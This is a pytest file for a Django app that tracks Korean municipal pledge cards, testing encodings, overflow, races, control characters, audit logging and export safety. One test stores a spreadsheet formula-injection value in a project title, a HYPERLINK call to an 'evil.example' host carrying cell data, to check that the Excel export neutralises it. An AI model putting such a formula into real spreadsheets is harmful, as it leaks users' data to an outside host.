"""Bad input never breaks plan tracking: encodings, unreadable fields, overflowing figures, races,
control characters, huge page numbers; progress changes only with a reason; imports start internal."""

import datetime as dt
import json
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse
from typer.testing import CliRunner

from techvalley.core.models import ApiToken, AuditEntry
from techvalley.core.validation import BadInput
from techvalley.projects import services
from techvalley.projects.card import CardParseError, decode_card, parse_card
from techvalley.projects.demo import data_file
from techvalley.projects.models import CardVersion, ProgressReport, Project
from tests.projects import race

SEED = data_file("cards/saha-3-1.txt").read_text(encoding="utf-8")


def _client(world, role="officer"):
    c = Client(raise_request_exception=False)
    if world["users"][role] is not None:
        c.force_login(world["users"][role])
    return c


# --- reading cards -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [SEED.encode("utf-8"), b"\xef\xbb\xbf" + SEED.encode("utf-8"), SEED.encode("cp949"), SEED.encode("utf-16")],
    ids=["utf-8", "utf-8-bom", "cp949", "utf-16"],
)
def test_card_in_every_encoding_offices_save_in(data):
    card = parse_card(decode_card(data)).card
    assert card["management_no"] == "3-1" and card["department"]["contact"] == "최재봉"


def test_undecodable_bytes_get_a_message_not_a_codec_error():
    with pytest.raises(CardParseError, match="CP949"):
        decode_card(b"\x80\x81\xff" * 30)


def test_cli_parses_a_cp949_card(tmp_path):
    from techvalley.cli import app

    f = tmp_path / "card.txt"
    f.write_bytes(SEED.encode("cp949"))
    r = CliRunner().invoke(app, ["card", "parse", str(f), "--json"])
    assert r.exit_code == 0, r.output
    assert '"management_no": "3-1"' in r.stdout
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"\x80\xff" * 50)
    r = CliRunner().invoke(app, ["card", "parse", str(bad)])
    assert r.exit_code == 2 and "Traceback" not in r.output and "CP949" in r.output


@pytest.mark.parametrize("period", ["임기 내", "22년~27년", "20222년~2027년", "2027년~2022년"])
def test_an_unreadable_period_is_listed_not_silently_null(period):
    result = parse_card(SEED.replace("2022년~2027년", period))
    assert result.card["period"] == {"start": None, "end": None}
    assert any("사업기간" in u["reason"] and period in u["text"] for u in result.unplaced)


def test_unreadable_progress_and_budget_are_listed():
    result = parse_card(SEED.replace("추진 중(40%)", "추진 중(사십%)").replace("비예산", "약 300"))
    reasons = " ".join(u["reason"] for u in result.unplaced)
    assert "추진율" in reasons and "소요예산" in reasons


def test_huge_numbers_parse_exactly_without_overflow():
    card = parse_card(SEED.replace("추진 중(40%)", "추진 중(9" * 1 + "9" * 400 + "%)")).card
    assert card["progress"]["percent"] == int("9" * 401)
    card = parse_card(SEED.replace("비예산", "9" * 400 + "억원")).card
    assert card["budget"]["amount_krw"] == int("9" * 400) * 10**8


@pytest.mark.django_db
@pytest.mark.parametrize(
    "old, new, field",
    [
        ("추진 중(40%)", "추진 중(9999999999999999999999%)", "추진상황"),
        ("추진 중(40%)", "추진 중(100.5%)", "추진상황"),
        ("비예산", "99999999999999999999999999억원", "소요예산"),
        ("\t10%\t40%", "\t10%\t4000000%", "연차별"),
    ],
)
def test_web_import_of_an_overflowing_card_is_a_clear_4xx(world, old, new, field):
    text = SEED.replace(old, new)
    upload = SimpleUploadedFile("card.txt", text.encode("utf-8"), "text/plain")
    response = _client(world).post(reverse("projects:card_import"), {"file": upload})
    assert response.status_code == 400
    assert field in response.content.decode()
    assert not Project.objects.exists()


@pytest.mark.django_db
def test_card_upload_size_is_limited(world, monkeypatch):
    monkeypatch.setattr(services, "CARD_MAX_BYTES", 100)
    upload = SimpleUploadedFile("card.txt", SEED.encode("utf-8"), "text/plain")
    response = _client(world).post(reverse("projects:card_import"), {"file": upload})
    assert response.status_code == 413 and not Project.objects.exists()


@pytest.mark.django_db
def test_web_import_starts_internal_until_published(world):
    upload = SimpleUploadedFile("card.txt", SEED.encode("cp949"), "text/plain")
    response = _client(world).post(reverse("projects:card_import"), {"file": upload})
    assert response.status_code == 302
    project = Project.objects.get(management_no="3-1")
    assert not project.public
    public_url = reverse("projects:pledge_public", args=[project.pk])
    assert Client().get(public_url).status_code == 404
    assert Client().get(f"/api/plan/pledges/{project.pk}/card").status_code == 404
    assert project.pk not in [p["id"] for p in Client().get("/api/plan/pledges").json()]

    assert (
        _client(world, "member_a")
        .post(reverse("projects:project_publish", args=[project.pk]), {"public": "1"})
        .status_code
        == 403
    )
    response = _client(world).post(reverse("projects:project_publish", args=[project.pk]), {"public": "1"})
    assert response.status_code == 302
    assert Client().get(public_url).status_code == 200
    entry = AuditEntry.objects.filter(model="projects.Project", object_id=str(project.pk)).latest("id")
    assert entry.changes["public"] == [False, True] and entry.actor == world["users"]["officer"]
    assert entry.reason.startswith("공개")


# --- progress changes only with a reason ------------------------------------------------------


@pytest.mark.django_db
def test_editing_the_card_cannot_change_progress(world, pledge):
    before = pledge.actual_percent
    response = _client(world).post(
        reverse("projects:project_edit", args=[pledge.pk]),
        {"title": "새 이름", "status": "on_track", "weight": "1", "actual_percent": "99", "reason": "명칭 변경"},
    )
    assert response.status_code == 302
    pledge.refresh_from_db()
    assert pledge.title == "새 이름" and pledge.actual_percent == before
    assert CardVersion.objects.filter(project=pledge).first().reason.startswith("관리카드 수정")


@pytest.mark.django_db
def test_progress_by_hand_needs_a_reason_and_snapshots_the_card(world, pledge):
    versions = CardVersion.objects.filter(project=pledge).count()
    c = _client(world)
    c.post(reverse("projects:project_override", args=[pledge.pk]), {"percent": "90", "reason": ""})
    pledge.refresh_from_db()
    assert pledge.progress_override is None
    c.post(reverse("projects:project_override", args=[pledge.pk]), {"percent": "90", "reason": "현장 확인"})
    pledge.refresh_from_db()
    assert pledge.progress_override == 90 and pledge.override_reason == "현장 확인"
    assert CardVersion.objects.filter(project=pledge).count() == versions + 1
    assert CardVersion.objects.filter(project=pledge).first().card["progress"]["percent"] == 90


# --- the quarterly report ------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_concurrent_drafts_of_the_same_quarter_never_fail(world, pledge, tmp_path):
    """20 clients drafting the same quarter at once: each gets the report or a 409 conflict,
    and there is one report. On SQLite the race runs on a file database in a child process
    (see ``tests/projects/race.py``); on PostgreSQL in this process's test database."""
    if connection.vendor == "sqlite":
        env = {k: v for k, v in os.environ.items() if k != "DATABASE_URL"}
        run = subprocess.run(
            [sys.executable, "-m", "tests.projects.race", str(tmp_path)],
            cwd=Path(__file__).resolve().parents[2],
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert run.returncode == 0, run.stderr[-3000:]
        outcome = json.loads(run.stdout.strip().splitlines()[-1])
        results, reports = outcome["results"], outcome["reports"]
    else:
        token = ApiToken.objects.create(user=world["users"]["officer"], name="race").key
        results = race.run_race(pledge.pk, token)
        reports = ProgressReport.objects.filter(project=pledge, year=2025, quarter=3).count()
    statuses = [status for status, _ in results]
    assert len(statuses) == race.CLIENTS and set(statuses) <= {200, 409}, results
    assert all(body["code"] == "conflict" for status, body in results if status == 409)
    assert reports == 1


@pytest.mark.django_db
def test_the_lost_race_is_a_conflict_not_an_integrity_error(world, pledge, monkeypatch):
    """Simulate the race: the report appears between the lookup and the insert."""
    services.draft_report(pledge, 2025, 2, Decimal(10))
    real_filter = ProgressReport.objects.select_for_update

    class Stale:
        def filter(self, **kwargs):
            return ProgressReport.objects.none()

    monkeypatch.setattr(ProgressReport.objects, "select_for_update", lambda: Stale())
    with pytest.raises(BadInput) as exc:
        services.draft_report(pledge, 2025, 2, Decimal(20))
    assert exc.value.code == "conflict" and exc.value.status == 409
    monkeypatch.setattr(ProgressReport.objects, "select_for_update", real_filter)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "kwargs",
    [
        {"summary": "요약\x00"},
        {"new_achievements": [{"start": "2025-01", "text": "실적\x00"}]},
        {"new_achievements": [{"start": "2025-13", "text": "없는 달"}]},
        {"new_achievements": ["문자열"]},
    ],
)
def test_reports_refuse_control_characters_and_bad_months(world, pledge, kwargs):
    with pytest.raises((BadInput, services.WorkflowError)):
        services.draft_report(pledge, 2025, 1, Decimal(10), **kwargs)
    assert not ProgressReport.objects.exists()


@pytest.mark.django_db
def test_nul_in_the_report_api_is_a_400(world, pledge):
    token = ApiToken.objects.create(user=world["users"]["officer"], name="t").key
    r = Client().post(
        f"/api/plan/pledges/{pledge.pk}/reports",
        {"year": 2025, "quarter": 1, "percent": "10", "summary": "a\x00b"},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert r.status_code == 400 and r.json()["code"] == "bad_input"


@pytest.mark.django_db
@pytest.mark.parametrize("year, percent", [(1800, "10"), (2025, "101"), (2025, "-1")])
def test_report_figures_out_of_range_are_a_4xx(world, pledge, year, percent):
    token = ApiToken.objects.create(user=world["users"]["officer"], name="t").key
    r = Client().post(
        f"/api/plan/pledges/{pledge.pk}/reports",
        {"year": year, "quarter": 1, "percent": percent},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert 400 <= r.status_code < 500 and "message" in r.json()


@pytest.mark.django_db
def test_report_list_bounds_the_page_number(world, pledge):
    for q in (1, 2, 3):
        services.draft_report(pledge, 2025, q, Decimal(10))
    c = _client(world)
    assert c.get(reverse("projects:report_list"), {"page": "4611686018427387905"}).status_code == 400
    assert c.get(reverse("projects:report_list"), {"page": "²"}).status_code == 400
    assert c.get(reverse("projects:report_list"), {"page": "99999"}).status_code == 200
    assert c.get(reverse("projects:report_list"), {"state": "nonsense"}).status_code == 200


# --- the command line ------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_cli_render_names_the_file_after_the_format(world, tmp_path, monkeypatch):
    from techvalley.cli import app

    services.import_card_file(data_file("cards/saha-3-1.txt"), world["cx"], publish=True)
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    r = runner.invoke(app, ["card", "render", "3-1", "--format", "hwpx"])
    assert r.exit_code == 0, r.output
    assert (tmp_path / "3-1.hwpx").read_bytes()[:2] == b"PK" and not (tmp_path / "card.pdf").exists()
    r = runner.invoke(app, ["card", "render", "--format", "xlsx"])
    assert r.exit_code == 0, r.output
    assert list(Path(tmp_path).glob("pledges-*.xlsx"))
    r = runner.invoke(app, ["card", "render", "--format", "pdf"])
    assert r.exit_code == 2 and "관리번호" in r.output


@pytest.mark.django_db(transaction=True)
def test_cli_import_starts_internal_unless_published(world, tmp_path):
    from techvalley.cli import app

    f = tmp_path / "card.txt"
    f.write_bytes(SEED.encode("cp949"))
    r = CliRunner().invoke(app, ["card", "import", str(f)])
    assert r.exit_code == 0, r.output
    assert not Project.objects.get(management_no="3-1").public
    r = CliRunner().invoke(app, ["card", "import", str(f), "--publish"])
    assert r.exit_code == 0 and Project.objects.get(management_no="3-1").public
    bad = tmp_path / "bad.txt"
    bad.write_text(SEED.replace("추진 중(40%)", "추진 중(400%)"), encoding="utf-8")
    r = CliRunner().invoke(app, ["card", "import", str(bad)])
    assert r.exit_code == 2 and "Traceback" not in r.output and "추진상황" in r.output


# --- exports and the demo ----------------------------------------------------------------------------


@pytest.mark.django_db
def test_excel_summary_neutralises_formulas_and_is_korean(world, pledge):
    import io

    from openpyxl import load_workbook

    Project.objects.filter(pk=pledge.pk).update(title='=HYPERLINK("http://evil.example/"&A2,"click me")')
    response = _client(world).get(reverse("projects:export_xlsx"), HTTP_ACCEPT_LANGUAGE="en")
    ws = load_workbook(io.BytesIO(response.content)).active
    row = [c.value for c in ws[2]]
    assert row[1].startswith("'=HYPERLINK")
    assert row[4] in ("정상추진", "일부추진", "완료", "이행 후 계속추진", "보류", "폐기")


@pytest.mark.django_db
def test_demo_status_follows_its_numbers_and_budget_is_explained(world, monkeypatch):
    from techvalley.projects import demo, selectors

    real_pledge_rows = selectors.pledge_rows
    monkeypatch.setattr(
        selectors, "pledge_rows", lambda *a, **k: real_pledge_rows(*a, **{**k, "today": dt.date(2026, 11, 25)})
    )
    demo.load_plan_demo(world["cx"])
    pledge = Project.objects.get(management_no="3-1")
    row = next(r for r in selectors.pledge_rows(demo.OPERATOR, world["cx"]) if r.project.pk == pledge.pk)
    assert row.behind and pledge.status == "partial" and not row.status_contradicted
    html = _client(world).get(reverse("projects:card_page", args=[pledge.pk])).content.decode()
    assert 'id="budget-reconciliation"' in html and "비예산" in html
    assert 'id="status-contradicted"' not in html


# --- Korean first ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_plan_pages_are_korean_first(world, pledge, planner):
    """No English phrase and no raw value (on_track, draft, card import …) in the Korean view."""
    import html as html_lib
    import re

    from tests.factories import XSS
    from tests.projects.factories import ProgressReportFactory

    report = ProgressReportFactory(project=pledge, submitted=True)
    services.set_progress_override(pledge, Decimal(41), "현장 점검")
    services.update_project(pledge, {"title": "새 이름", "status": "partial"})
    services.publish_project(pledge, False)
    c = Client(HTTP_ACCEPT_LANGUAGE="ko")
    c.force_login(planner)
    urls = [
        reverse("projects:dashboard"),
        reverse("projects:card_page", args=[pledge.pk]),
        reverse("projects:report_detail", args=[report.pk]),
        reverse("projects:report_list"),
        reverse("projects:project_edit", args=[pledge.pk]),
        reverse("projects:card_import"),
        reverse("projects:report_new", args=[pledge.pk]),
        reverse("projects:pledge_list"),
    ]
    for url in urls:
        html = c.get(url).content.decode()
        main = re.search(r"(?s)<main>(.*)</main>", html).group(1)
        # The kinds of record an achievement may link to are other apps' labels (their catalogues).
        main = re.sub(r'(?s)<select name="type".*?</select>', " ", main)
        text = html_lib.unescape(re.sub(r"<[^>]+>", " ", re.sub(r"(?s)<(script|style)\b.*?</\1>", " ", main)))
        english = [
            run
            for run in re.findall(r"[A-Za-z][A-Za-z_'’-]*(?:\s+[A-Za-z][A-Za-z'’-]*)*", text.replace(XSS, ""))
            if not all(word.isupper() for word in run.split())  # acronyms in the card (SW, PDF, HWPX)
        ]
        assert not english, (url, sorted(set(english)))
        for raw in ("on_track", "partial", "submitted", "draft"):
            assert not re.search(rf"(?<![\w/=?&\"']){raw}(?![\w\"'])", text), (url, raw)
